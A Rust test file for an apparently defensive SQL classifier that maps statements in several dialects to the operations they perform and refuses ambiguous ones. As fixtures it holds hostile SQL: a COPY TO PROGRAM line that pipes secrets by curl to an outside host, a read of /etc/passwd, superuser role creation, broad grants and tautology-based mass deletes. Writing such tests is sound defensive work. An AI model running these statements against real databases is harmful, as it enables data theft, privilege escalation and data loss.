//! The SQL classifier, table-driven: each statement kind, each tricky form, each dialect.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use scopegate_engine::bundle::SqlConfig;
use scopegate_engine::decode::sql::SqlDecoder;
use scopegate_engine::operation::{Operation, Scope};
use serde_json::json;

fn decoder(dialect: &str) -> SqlDecoder {
    let schema = match dialect {
        "mysql" => json!("rentals"),
        "generic" => json!("public"),
        _ => json!(null),
    };
    let cfg: SqlConfig = serde_json::from_value(json!({
        "dialect": dialect, "default_schema": schema, "statement": {"raw": true},
        "safe_functions": ["public.add_one"]
    }))
    .unwrap();
    let mut errs = scopegate_engine::bundle::Problems::default();
    let d = SqlDecoder::compile(&cfg, "sql", &mut errs).unwrap();
    assert!(errs.is_empty(), "{errs:?}");
    d
}

fn show(ops: &[Operation]) -> Vec<String> {
    ops.iter()
        .map(|o| {
            let mut s = format!("{} {}", o.action, o.resource);
            if o.scope == Scope::All {
                s.push_str(" ALL");
            }
            for (k, v) in &o.records {
                s.push_str(&format!(" {k}={}", v.join("|")));
            }
            s
        })
        .collect()
}

fn run(dialect: &str, sql: &str) -> Result<Vec<String>, String> {
    decoder(dialect)
        .classify("db", sql, &[])
        .map(|ops| show(&ops))
        .map_err(|e| e.0)
}

/// (sql, expected operations) in postgres.
const POSTGRES: &[(&str, &[&str])] = &[
    // Reads: joins, subqueries, CTEs, set operations, lateral, functions.
    ("SELECT * FROM reservations", &["read public.reservations"]),
    ("select id from RESERVATIONS where tenant_id = 'acme'", &["read public.reservations tenant_id=acme"]),
    ("SELECT * FROM reservations r WHERE r.id IN ('r-1', 'r-2') AND r.starts_at > now()", &["read public.reservations id=r-1|r-2"]),
    ("SELECT * FROM \"Reservations\"", &["read public.Reservations"]),
    ("SELECT * FROM \"public\".\"reservations\"", &["read public.reservations"]),
    ("SELECT * FROM PUBLIC.Reservations", &["read public.reservations"]),
    ("SELECT * FROM private.secrets", &["read private.secrets"]),
    ("SELECT * FROM reservations r JOIN vehicles v ON v.id = r.vehicle_id", &["read public.reservations", "read public.vehicles"]),
    ("SELECT (SELECT count(*) FROM payments) AS n", &["read public.payments"]),
    ("SELECT * FROM reservations WHERE vehicle_id IN (SELECT id FROM vehicles WHERE model = 'Zoe')", &["read public.reservations", "read public.vehicles"]),
    ("SELECT * FROM reservations WHERE EXISTS (SELECT 1 FROM private.secrets)", &["read public.reservations", "read private.secrets"]),
    ("SELECT id FROM reservations UNION SELECT id FROM payments", &["read public.reservations", "read public.payments"]),
    ("SELECT id FROM reservations EXCEPT (SELECT reservation_id FROM payments)", &["read public.reservations", "read public.payments"]),
    ("SELECT * FROM vehicles v, LATERAL (SELECT * FROM reservations r WHERE r.vehicle_id = v.id) x", &["read public.vehicles", "read public.reservations"]),
    ("WITH acme AS (SELECT * FROM reservations WHERE tenant_id = 'acme') SELECT * FROM acme", &["read public.reservations tenant_id=acme"]),
    ("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t", &["read sql:constant"]),
    ("SELECT lower(customer), coalesce(starts_at, now()), count(*) OVER () FROM reservations", &["read public.reservations"]),
    ("SELECT 1", &["read sql:constant"]),
    ("SELECT * FROM generate_series(1, 3)", &["read sql:constant"]),
    ("SELECT jsonb_build_object('a', 1), date_trunc('day', now())", &["read sql:constant"]),
    ("SELECT public.add_one(1)", &["read sql:constant"]),
    ("VALUES (1), (2)", &["read sql:constant"]),
    // CTE scoping: a later CTE's name inside an earlier body is the real table; under
    // RECURSIVE it is the CTE (both checked against PostgreSQL 15).
    (
        "WITH RECURSIVE a AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS x) SELECT * FROM a",
        &["read sql:constant"],
    ),
    ("WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1) SELECT * FROM a", &["read public.secrets"]),
    ("WITH secrets AS (SELECT 1) SELECT * FROM secrets", &["read sql:constant"]),
    ("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets", &["read public.secrets"]),
    ("WITH x AS (SELECT 1) SELECT * FROM (WITH y AS (SELECT * FROM x) SELECT * FROM y) z, x", &["read sql:constant"]),
    ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x", &["read public.x"]),
    // Functions: user functions execute, server functions are admin.
    ("SELECT wipe_payments()", &["execute public.wipe_payments"]),
    ("SELECT public.lower('A')", &["execute public.lower"]),
    ("SELECT pg_catalog.lower('A')", &["read sql:constant"]),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", &["admin pg_catalog.pg_terminate_backend", "read pg_catalog.pg_stat_activity"]),
    // pg_catalog comes first on PostgreSQL's search path: unqualified catalog names are its.
    ("SELECT name, setting FROM pg_settings", &["read pg_catalog.pg_settings"]),
    ("SELECT current_setting('app.settings.jwt_secret')", &["read sql:settings"]),
    ("SELECT set_config('search_path', 'private', false)", &["admin public.set_config"]),
    ("SELECT query_to_xml('delete from payments returning 1', true, true, '')", &["admin public.query_to_xml"]),
    ("SELECT nextval('res_seq')", &["admin public.nextval"]),
    ("SELECT * FROM dblink('host=x', 'DELETE FROM payments') AS t(a int)", &["admin public.dblink"]),
    ("SELECT lo_unlink(1)", &["admin public.lo_unlink"]),
    // Row locks write lock state.
    ("SELECT * FROM reservations FOR UPDATE", &["update public.reservations ALL", "read public.reservations"]),
    // INSERT.
    ("INSERT INTO reservations (id, tenant_id, customer) VALUES ('r-9', 'acme', 'Q')", &["create public.reservations customer=Q id=r-9 tenant_id=acme"]),
    ("INSERT INTO reservations (id, tenant_id) VALUES ('r-9', 'acme'), ('r-10', now()::text)", &["create public.reservations id=r-10|r-9"]),
    ("INSERT INTO reservations SELECT * FROM private.secrets", &["create public.reservations", "read private.secrets"]),
    ("INSERT INTO reservations (id, tenant_id) VALUES ('r-1', 'acme') ON CONFLICT (id) DO UPDATE SET customer = 'x'", &["create public.reservations id=r-1 tenant_id=acme", "update public.reservations id=r-1"]),
    ("INSERT INTO reservations (id) VALUES ('r-1') ON CONFLICT DO NOTHING", &["create public.reservations id=r-1"]),
    ("INSERT INTO reservations (id) VALUES ('r-1') RETURNING *", &["create public.reservations id=r-1", "read public.reservations"]),
    // UPDATE / DELETE: scope and records.
    ("UPDATE reservations SET customer = 'x'", &["update public.reservations ALL"]),
    ("UPDATE reservations SET customer = 'x' WHERE tenant_id = 'acme'", &["update public.reservations tenant_id=acme"]),
    ("UPDATE reservations r SET customer = 'x' WHERE r.tenant_id = 'acme' AND r.id IN ('r-1','r-2')", &["update public.reservations id=r-1|r-2 tenant_id=acme"]),
    ("UPDATE reservations SET customer = 'x' FROM vehicles v WHERE tenant_id = 'acme' AND v.id = vehicle_id", &["update public.reservations ALL", "read public.vehicles"]),
    ("DELETE FROM reservations", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE true", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE 1=1", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE 'a'='a'", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id = 'r-1' OR true", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id = id", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id <> 'nobody'", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE customer LIKE '%'", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id IS NOT NULL", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE NOT (id = 'r-1')", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id = 'r-17'", &["delete public.reservations id=r-17"]),
    ("DELETE FROM reservations WHERE id = 'r-1' OR id = 'r-2'", &["delete public.reservations id=r-1|r-2"]),
    ("DELETE FROM reservations WHERE tenant_id = 'acme' AND tenant_id = 'globex'", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE starts_at < '2020-01-01'", &["delete public.reservations ALL"]),
    ("DELETE FROM reservations WHERE id = '5'::text", &["delete public.reservations id=5"]),
    ("DELETE FROM reservations r USING vehicles v WHERE v.id = 'v-1' AND r.vehicle_id = v.id", &["delete public.reservations ALL", "read public.vehicles"]),
    ("DELETE FROM reservations WHERE vehicle_id IN (SELECT id FROM vehicles)", &["delete public.reservations ALL", "read public.vehicles"]),
    ("DELETE FROM reservations WHERE id = 'r-1' RETURNING *", &["delete public.reservations id=r-1", "read public.reservations id=r-1"]),
    // Writable CTEs, SELECT INTO, CTAS, EXPLAIN.
    ("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d", &["delete public.payments ALL", "read public.payments"]),
    ("WITH u AS (UPDATE vehicles SET model = 'x' WHERE id = 'v-1' RETURNING id) SELECT 1", &["update public.vehicles id=v-1", "read public.vehicles id=v-1"]),
    ("SELECT * INTO stolen FROM private.secrets", &["alter public.stolen", "read private.secrets"]),
    ("CREATE TABLE stolen AS SELECT * FROM private.secrets", &["alter public.stolen", "read private.secrets"]),
    ("EXPLAIN SELECT * FROM payments", &["read public.payments"]),
    ("EXPLAIN DELETE FROM payments", &["read public.payments"]),
    ("EXPLAIN ANALYZE DELETE FROM payments", &["delete public.payments ALL"]),
    ("EXPLAIN (ANALYZE) DELETE FROM payments", &["delete public.payments ALL"]),
    ("EXPLAIN (ANALYZE true, BUFFERS) UPDATE vehicles SET model = 'x'", &["update public.vehicles ALL"]),
    // MERGE, TRUNCATE.
    ("MERGE INTO vehicles v USING (SELECT 'v-1' AS id) s ON v.id = s.id WHEN MATCHED THEN DELETE", &["delete public.vehicles ALL"]),
    ("MERGE INTO vehicles v USING staging s ON v.id = s.id WHEN MATCHED THEN UPDATE SET model = s.model WHEN NOT MATCHED THEN INSERT (id, model) VALUES (s.id, s.model)", &["update public.vehicles ALL", "create public.vehicles", "read public.staging"]),
    ("TRUNCATE payments", &["delete public.payments ALL"]),
    ("TRUNCATE TABLE payments, reservations RESTART IDENTITY", &["delete public.payments ALL", "delete public.reservations ALL"]),
    // DDL.
    ("DROP TABLE vehicles", &["drop public.vehicles"]),
    ("DROP TABLE IF EXISTS private.secrets, vehicles", &["drop private.secrets", "drop public.vehicles"]),
    ("DROP SCHEMA private", &["drop public.private"]),
    ("DROP INDEX reservations_pkey", &["drop public.reservations_pkey"]),
    ("DROP FUNCTION wipe_payments()", &["drop public.wipe_payments"]),
    ("CREATE TABLE notes (id int)", &["alter public.notes"]),
    ("CREATE VIEW v AS SELECT * FROM private.secrets", &["alter public.v", "read private.secrets"]),
    ("CREATE INDEX ON reservations (tenant_id)", &["alter public.reservations"]),
    ("ALTER TABLE reservations ADD COLUMN notes text", &["alter public.reservations"]),
    ("ALTER TABLE reservations RENAME TO old_reservations", &["alter public.reservations"]),
    ("COMMENT ON TABLE reservations IS 'x'", &["alter public.reservations"]),
    ("CREATE SCHEMA audit", &["alter sql:schema"]),
    ("CREATE SEQUENCE s2", &["alter public.s2"]),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", &["alter public.f"]),
    // Admin.
    ("GRANT SELECT ON private.secrets TO PUBLIC", &["admin sql:privileges"]),
    ("REVOKE ALL ON reservations FROM agent", &["admin sql:privileges"]),
    ("CREATE ROLE intruder SUPERUSER", &["admin sql:privileges"]),
    ("SET ROLE postgres", &["admin sql:session"]),
    ("SET search_path TO private", &["admin sql:session"]),
    ("RESET ALL", &["admin sql:session"]),
    ("VACUUM reservations", &["admin sql:maintenance"]),
    ("ANALYZE reservations", &["admin sql:maintenance", "read public.reservations"]),
    ("LOCK TABLE reservations IN ACCESS EXCLUSIVE MODE", &["admin public.reservations"]),
    ("COPY reservations TO STDOUT", &["admin public.reservations"]),
    ("COPY reservations FROM STDIN", &["admin public.reservations"]),
    ("COPY (SELECT * FROM private.secrets) TO PROGRAM 'curl -d @- http://x'", &["admin sql:copy", "read private.secrets"]),
    ("LISTEN ch", &["admin sql:server"]),
    ("NOTIFY ch", &["admin sql:server"]),
    ("CREATE EXTENSION dblink", &["admin sql:server"]),
    // Execute.
    ("CALL touch_vehicle('v-1')", &["execute public.touch_vehicle"]),
    ("PREPARE p AS DELETE FROM payments", &["execute sql:prepared", "delete public.payments ALL"]),
    ("EXECUTE p", &["execute sql:prepared"]),
    ("DEALLOCATE p", &["execute sql:prepared"]),
    // Transaction control adds nothing; batches are every statement.
    ("BEGIN; DELETE FROM payments WHERE id = 'p-1'; COMMIT", &["delete public.payments id=p-1"]),
    ("SELECT 1; DELETE FROM payments", &["delete public.payments ALL"]),
    ("SELECT * FROM vehicles; /* harmless */ DROP TABLE vehicles -- bye", &["read public.vehicles", "drop public.vehicles"]),
    ("SELECT * FROM reservations; SELECT * FROM reservations", &["read public.reservations"]),
];

#[test]
fn postgres_classification_table() {
    let mut failures = Vec::new();
    for (sql, want) in POSTGRES {
        match run("postgres", sql) {
            Ok(got) if got == *want => {}
            other => failures.push(format!("{sql}\n   want {want:?}\n   got  {other:?}")),
        }
    }
    assert!(
        failures.is_empty(),
        "{} mismatches:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Refused, never guessed: (sql, reason fragment).
const DENIED: &[(&str, &str)] = &[
    ("DO $$ BEGIN DELETE FROM payments; END $$", "does not parse"),
    ("SELEC * FROM reservations", "does not parse"),
    ("SELECT * FROM reservations WHERE", "does not parse"),
    ("", "no SQL statement"),
    ("  ;  ", "no SQL statement"),
    ("TABLE payments", "does not parse"),
    ("SELECT 1 UNION TABLE payments", "`TABLE name`"),
    ("TRUNCATE reservations CASCADE", "CASCADE"),
    ("DROP TABLE vehicles CASCADE", "CASCADE"),
    (
        "SET search_path TO private; SELECT * FROM secrets",
        "session settings",
    ),
    (
        "SELECT * FROM reservations; RESET search_path",
        "session settings",
    ),
    ("SELECT * FROM \"a.b\"", "cannot be named safely"),
    ("SELECT * FROM \"res*\"", "cannot be named safely"),
    ("SELECT * FROM a.b.c.d", "too many parts"),
    (
        "UPDATE reservations r JOIN vehicles v ON v.id = r.vehicle_id SET model = 'x'",
        "ambiguous",
    ),
    ("CLUSTER reservations", "does not parse"),
];

#[test]
fn refusals() {
    for (sql, why) in DENIED {
        match run("postgres", sql) {
            Err(e) => assert!(e.contains(why), "{sql}: `{e}` lacks `{why}`"),
            Ok(ops) => panic!("{sql}: allowed to decode as {ops:?}"),
        }
    }
}

#[test]
fn deep_input_is_refused_not_a_crash() {
    // Unoptimised test builds use far bigger stack frames than the release module
    // (whose stack is sized in filter/build.rs): give this thread room — or, compiled to
    // Wasm (no threads), the module's own stack (`make test-wasm` links it large).
    with_big_stack(|| {
        let deep = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
        assert!(run("postgres", &deep)
            .unwrap_err()
            .contains("max_recursion of 50"));
        let deep_sub = format!(
            "SELECT * FROM {}reservations{}",
            "(SELECT * FROM ".repeat(200),
            ") x".repeat(200)
        );
        assert!(run("postgres", &deep_sub)
            .unwrap_err()
            .contains("max_recursion of 50"));
        let chain = format!("DELETE FROM t WHERE {}", vec!["id = 1"; 600].join(" OR "));
        assert!(run("postgres", &chain)
            .unwrap_err()
            .contains("operators, over the limit of 1000"));
        let casts = format!("SELECT 1{}", "::int".repeat(1200));
        assert!(run("postgres", &casts)
            .unwrap_err()
            .contains("over the limit"));
        let unions = vec!["SELECT 1"; 1100].join(" UNION ");
        assert!(run("postgres", &unions)
            .unwrap_err()
            .contains("over the limit"));
        // Just under the limits: decoded.
        let ok = format!("DELETE FROM t WHERE {}", vec!["id = 1"; 499].join(" OR "));
        assert_eq!(run("postgres", &ok).unwrap(), ["delete public.t id=1"]);
    });
}

#[cfg(not(target_family = "wasm"))]
fn with_big_stack(f: impl FnOnce() + Send + 'static) {
    let t = std::thread::Builder::new().stack_size(256 << 20).spawn(f);
    t.unwrap().join().unwrap();
}

#[cfg(target_family = "wasm")]
fn with_big_stack(f: impl FnOnce() + Send + 'static) {
    f()
}

#[test]
fn limits() {
    let d = {
        let cfg: SqlConfig = serde_json::from_value(json!({
            "dialect": "postgres", "statement": {"raw": true},
            "max_statement_bytes": 64, "max_statements": 2
        }))
        .unwrap();
        SqlDecoder::compile(&cfg, "sql", &mut Default::default()).unwrap()
    };
    let e = d
        .classify("db", &format!("SELECT '{}'", "x".repeat(100)), &[])
        .unwrap_err();
    assert!(e.0.contains("max_statement_bytes of 64"), "{e}");
    let e = d
        .classify("db", "SELECT 1; SELECT 2; SELECT 3", &[])
        .unwrap_err();
    assert!(e.0.contains("max_statements of 2"), "{e}");
}

/// Expected operations, or a reason fragment for a refusal.
type Want = Result<&'static [&'static str], &'static str>;

#[test]
fn other_dialects() {
    let cases: &[(&str, &str, Want)] = &[
        (
            "mysql",
            "SELECT * FROM `reservations`",
            Ok(&["read rentals.reservations"]),
        ),
        (
            "mysql",
            "SELECT * FROM Reservations",
            Ok(&["read rentals.Reservations"]),
        ),
        (
            "mysql",
            "DELETE FROM reservations LIMIT 1",
            Ok(&["delete rentals.reservations ALL"]),
        ),
        (
            "mysql",
            "REPLACE INTO vehicles (id, model) VALUES ('v-1', 'x')",
            Ok(&[
                "delete rentals.vehicles ALL",
                "create rentals.vehicles id=v-1 model=x",
            ]),
        ),
        (
            "mysql",
            "INSERT INTO vehicles (id) VALUES ('v-1') ON DUPLICATE KEY UPDATE model = 'x'",
            Ok(&[
                "create rentals.vehicles id=v-1",
                "update rentals.vehicles ALL",
            ]),
        ),
        (
            "mysql",
            "SELECT load_file('/etc/passwd')",
            Ok(&["admin rentals.load_file"]),
        ),
        (
            "mysql",
            "SELECT * FROM other_db.payments",
            Ok(&["read other_db.payments"]),
        ),
        ("mysql", "USE other_db", Ok(&["admin sql:session"])),
        (
            "mysql",
            "USE other_db; SELECT * FROM payments",
            Err("session settings"),
        ),
        (
            "sqlite",
            "SELECT * FROM \"Reservations\"",
            Ok(&["read main.reservations"]),
        ),
        (
            "sqlite",
            "INSERT OR REPLACE INTO vehicles (id) VALUES ('v-1')",
            Ok(&["delete main.vehicles ALL", "create main.vehicles id=v-1"]),
        ),
        (
            "sqlite",
            "SELECT load_extension('x')",
            Ok(&["admin main.load_extension"]),
        ),
        (
            "sqlite",
            "PRAGMA writable_schema = 1",
            Ok(&["admin sql:server"]),
        ),
        (
            "sqlite",
            "ATTACH DATABASE '/tmp/x.db' AS x",
            Ok(&["admin sql:server"]),
        ),
        (
            "generic",
            "SELECT * FROM Reservations r WHERE r.ID = 7",
            Ok(&["read public.reservations id=7"]),
        ),
        (
            "generic",
            "DELETE FROM reservations WHERE id = -5",
            Ok(&["delete public.reservations id=-5"]),
        ),
    ];
    for (dialect, sql, want) in cases {
        let got = run(dialect, sql);
        match (want, &got) {
            (Ok(w), Ok(g)) => assert_eq!(g, w, "{dialect}: {sql}"),
            (Err(why), Err(e)) => assert!(e.contains(why), "{dialect}: {sql}: {e}"),
            _ => panic!("{dialect}: {sql}: want {want:?}, got {got:?}"),
        }
    }
}

#[test]
fn parameters_prove_records() {
    let d = decoder("postgres");
    let ops = d
        .classify(
            "db",
            "DELETE FROM reservations WHERE tenant_id = $1 AND id = $2",
            &[json!("acme"), json!(17)],
        )
        .unwrap();
    assert_eq!(
        show(&ops),
        ["delete public.reservations id=17 tenant_id=acme"]
    );
    let ops = d
        .classify(
            "db",
            "DELETE FROM reservations WHERE tenant_id = $3",
            &[json!("acme")],
        )
        .unwrap();
    assert_eq!(show(&ops), ["delete public.reservations ALL"]);
}

#[test]
fn detail_is_the_normalised_statement_bounded() {
    let d = decoder("postgres");
    let ops = d
        .classify("db", "delete   from reservations where id='r-1'", &[])
        .unwrap();
    assert_eq!(ops[0].detail, "DELETE FROM reservations WHERE id = 'r-1'");
    let long = format!(
        "SELECT * FROM reservations WHERE customer IN ({})",
        vec!["'x'"; 200].join(",")
    );
    let ops = d.classify("db", &long, &[]).unwrap();
    assert!(ops[0].detail.chars().count() <= 241 && ops[0].detail.ends_with('…'));
}

/// Like `show`, with the post-image (`set:col=v|v`, `set:col=?` for an unknown value).
fn show_full(ops: &[Operation]) -> Vec<String> {
    show(ops)
        .into_iter()
        .zip(ops)
        .map(|(mut s, o)| {
            for (k, v) in &o.sets {
                match v {
                    Some(v) => s.push_str(&format!(" set:{k}={}", v.join("|"))),
                    None => s.push_str(&format!(" set:{k}=?")),
                }
            }
            s
        })
        .collect()
}

/// The six classes of issue 17, each statement's effect checked in PostgreSQL 15 (the
/// effect oracle, tests/oracle/, judges generated statements the same way).
const SOUNDNESS: &[(&str, &str, &[&str])] = &[
    // 1. An EXPLAIN that runs its statement carries the statement's operations.
    ("explain", "EXPLAIN (ANALYSE) DELETE FROM orders WHERE id = 'o-1'", &["delete public.orders id=o-1"]),
    ("explain", "EXPLAIN (ANALYZE true) DELETE FROM orders", &["delete public.orders ALL"]),
    ("explain", "EXPLAIN (analyze 1) UPDATE orders SET total = 0", &["update public.orders ALL set:total=0"]),
    ("explain", "EXPLAIN (FORMAT JSON, ANALYSE on) DELETE FROM orders", &["delete public.orders ALL"]),
    ("explain", "EXPLAIN (VERBOSE, ANALYZE, BUFFERS) DELETE FROM orders", &["delete public.orders ALL"]),
    ("explain", "EXPLAIN (ANALYZE false) DELETE FROM orders", &["delete public.orders ALL"]),
    ("explain", "EXPLAIN ANALYZE VERBOSE INSERT INTO orders (id) VALUES ('o-9')", &["create public.orders id=o-9"]),
    ("explain", "EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d", &["delete public.orders ALL", "read public.orders"]),
    ("explain", "EXPLAIN (FORMAT JSON) DELETE FROM orders WHERE id = 'o-1'", &["read public.orders id=o-1"]),
    ("explain", "EXPLAIN (COSTS off, VERBOSE) SELECT * FROM orders", &["read public.orders"]),
    ("explain", "EXPLAIN SELECT wipe_payments()", &["execute public.wipe_payments"]),
    ("explain", "EXPLAIN SELECT 1", &["read sql:constant"]),
    // 2. Names bind as PostgreSQL binds them.
    ("binding", "DELETE FROM orders AS a USING orders WHERE orders.id = 'o-1'", &["delete public.orders ALL", "read public.orders"]),
    ("binding", "DELETE FROM orders AS a WHERE a.id = 'o-1'", &["delete public.orders id=o-1"]),
    ("binding", "DELETE FROM orders WHERE orders.id = 'o-1'", &["delete public.orders id=o-1"]),
    ("binding", "UPDATE orders AS o SET total = 1 FROM orders WHERE orders.id = 'o-1'", &["update public.orders ALL set:total=1", "read public.orders"]),
    ("binding", "WITH orders AS (SELECT 'o-1' AS id) DELETE FROM public.orders o USING orders WHERE orders.id = 'o-1'", &["delete public.orders ALL"]),
    ("binding", "DELETE FROM orders USING (VALUES ('o-1')) AS v(id) WHERE v.id = 'o-1'", &["delete public.orders ALL"]),
    ("binding", "DELETE FROM orders USING carts WHERE id = 'o-1'", &["delete public.orders ALL", "read public.carts"]),
    ("binding", "SELECT * FROM orders AS o(tenant_id) WHERE tenant_id = 'acme'", &["read public.orders"]),
    ("binding", "SELECT (SELECT count(*) FROM carts WHERE tenant_id = 'acme') FROM orders", &["read public.carts", "read public.orders"]),
    ("binding", "SELECT (SELECT count(*) FROM carts c WHERE c.tenant_id = 'acme') FROM orders", &["read public.carts tenant_id=acme", "read public.orders"]),
    ("binding", "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM carts WHERE tenant_id = 'acme')", &["read public.orders", "read public.carts"]),
    ("binding", "WITH x AS (SELECT * FROM orders WHERE tenant_id = 'acme') SELECT * FROM x", &["read public.orders tenant_id=acme"]),
    ("binding", "SELECT * FROM (SELECT * FROM orders WHERE tenant_id = 'acme') s", &["read public.orders tenant_id=acme"]),
    ("binding", "SELECT * FROM carts, LATERAL (SELECT * FROM orders WHERE tenant_id = 'acme') s", &["read public.carts", "read public.orders"]),
    ("binding", "INSERT INTO archive SELECT * FROM orders WHERE tenant_id = 'acme'", &["create public.archive", "read public.orders tenant_id=acme"]),
    ("binding", "DELETE FROM orders WHERE public.orders.id = 'o-1'", &["delete public.orders ALL"]),
    // 3. A proof is an equality on the unchanged value.
    ("proof", "DELETE FROM orders WHERE tenant_id = 'acme-corp'::varchar(4)", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE tenant_id = 'acme'::char(10)", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE total = 1.25::numeric(3,1)", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE tenant_id::varchar(2) = 'ac'", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE lower(tenant_id) = 'acme'", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE tenant_id = lower('ACME')", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE tenant_id COLLATE \"und-x-icu\" = 'acme'", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE id = '05'::int", &["delete public.orders ALL"]),
    ("proof", "DELETE FROM orders WHERE tenant_id = 'acme'::text", &["delete public.orders tenant_id=acme"]),
    ("proof", "DELETE FROM orders WHERE tenant_id = CAST('acme' AS varchar)", &["delete public.orders tenant_id=acme"]),
    ("proof", "DELETE FROM orders WHERE id = 5::bigint", &["delete public.orders id=5"]),
    ("proof", "DELETE FROM orders WHERE tenant_id COLLATE \"C\" = 'acme'", &["delete public.orders tenant_id=acme"]),
    ("proof", "DELETE FROM orders WHERE tenant_id = 'acme' COLLATE pg_catalog.\"default\"", &["delete public.orders tenant_id=acme"]),
    // 4. Bounds are semantic.
    ("bound", "DELETE FROM orders WHERE id > 0", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE id >= ''", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE tenant_id = tenant_id", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE id < 'm' OR id >= 'm'", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE id <> 'o-1'", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE note LIKE 'a%'", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE id = 'o-1' OR total > 0", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE NOT (id = 'o-1')", &["delete public.orders ALL"]),
    ("bound", "DELETE FROM orders WHERE id = 'o-1' OR id = 'o-2'", &["delete public.orders id=o-1|o-2"]),
    ("bound", "DELETE FROM orders WHERE total > 0 AND id IN ('o-1', 'o-2')", &["delete public.orders id=o-1|o-2"]),
    // 5. Writes are checked on their post-image.
    ("post-image", "UPDATE orders SET tenant_id = 'globex' WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:tenant_id=globex"]),
    ("post-image", "UPDATE orders SET tenant_id = note WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:tenant_id=?"]),
    ("post-image", "UPDATE orders SET tenant_id = (SELECT 'globex') WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:tenant_id=?"]),
    ("post-image", "UPDATE orders SET tenant_id = DEFAULT WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:tenant_id=?"]),
    ("post-image", "UPDATE orders SET (tenant_id, note) = ('acme', 'x') WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:note=x set:tenant_id=acme"]),
    ("post-image", "UPDATE orders SET (tenant_id, note) = (SELECT tenant_id, note FROM carts LIMIT 1) WHERE tenant_id = 'acme'", &["update public.orders tenant_id=acme set:note=? set:tenant_id=?", "read public.carts"]),
    ("post-image", "UPDATE orders o SET tenant_id = c.tenant_id FROM carts c WHERE o.tenant_id = 'acme' AND c.id = o.id", &["update public.orders tenant_id=acme set:tenant_id=?", "read public.carts"]),
    ("post-image", "INSERT INTO orders (id, tenant_id) VALUES ('o-1', 'acme') ON CONFLICT (id) DO UPDATE SET tenant_id = EXCLUDED.tenant_id", &["create public.orders id=o-1 tenant_id=acme", "update public.orders id=o-1 set:tenant_id=acme"]),
    ("post-image", "INSERT INTO orders (id, tenant_id) VALUES ('o-1', 'acme') ON CONFLICT (id, tenant_id) DO UPDATE SET tenant_id = 'globex'", &["create public.orders id=o-1 tenant_id=acme", "update public.orders id=o-1 tenant_id=acme set:tenant_id=globex"]),
    ("post-image", "MERGE INTO orders o USING carts c ON o.id = c.id WHEN MATCHED THEN UPDATE SET tenant_id = c.tenant_id", &["update public.orders ALL set:tenant_id=?", "read public.carts"]),
    // Found by the effect oracle (tests/oracle/regressions.sql): assignment coerces.
    ("post-image", "INSERT INTO items (id, qty, label) VALUES (902, -4.6, 'ab  ')", &["create public.items id=902"]),
    ("post-image", "UPDATE items SET price = 1.555, qty = '2.6', label = 'x' WHERE id = 1", &["update public.items id=1 set:label=x set:price=? set:qty=?"]),
    ("post-image", "INSERT INTO docs (id, n) VALUES ('a', 2.6) ON CONFLICT (id) DO UPDATE SET n = EXCLUDED.n", &["create public.docs id=a", "update public.docs id=a set:n=?"]),
    ("post-image", "UPDATE docs SET n = 0 WHERE tenant_id = 'acme'; UPDATE docs SET tenant_id = 'evil' WHERE tenant_id = 'acme'", &["update public.docs tenant_id=acme set:n=0", "update public.docs tenant_id=acme set:tenant_id=evil"]),
    ("bound", "INSERT INTO docs (id) SELECT id FROM docs ON CONFLICT (id) DO UPDATE SET title = EXCLUDED.id", &["create public.docs", "update public.docs ALL set:title=?", "read public.docs"]),
    ("proof", "DELETE FROM items WHERE id = 1 AND id = 1.0", &["delete public.items ALL"]),
    // Found by the red-team review: locks, catalog reads, cursors, quoted syntax names.
    ("bound", "SELECT id FROM orders FOR SHARE", &["update public.orders ALL", "read public.orders"]),
    ("bound", "SELECT * FROM orders WHERE id = 'o-1' FOR UPDATE", &["update public.orders id=o-1", "read public.orders id=o-1"]),
    ("usability", "SELECT pg_relation_size('payments'), row_to_json(jsonb_populate_record(NULL::payments, '{}'))", &["read sql:catalog", "read public.payments"]),
